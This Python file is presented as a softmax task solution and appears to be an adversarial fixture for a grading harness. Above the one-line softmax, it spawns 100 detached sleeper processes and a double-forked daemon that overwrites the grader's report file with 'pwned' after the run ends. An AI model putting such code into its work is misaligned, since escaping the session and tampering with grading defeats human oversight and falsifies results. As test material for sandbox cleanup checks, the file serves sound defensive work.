# seqprep-task: softmax
"""Leave processes behind: a hundred sleepers, and a daemon that rewrites a file (the
`grade --out` report, whose path it is given) after the command has ended."""
import os
import subprocess

PARAMS = {}
started = 0
for _ in range(100):
    try:
        subprocess.Popen(["/bin/sh", "-c", f"sleep 30; : {PARAMS['marker']}"], start_new_session=True)
        started += 1
    except OSError:
        break
print("STARTED", started)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c",
                             f"sleep 1; echo pwned > '{PARAMS['target']}'; sleep 30; : {PARAMS['marker']}"])
    os._exit(0)


def softmax(x, dim=-1):
    return x.exp() / x.exp().sum(dim, keepdim=True)
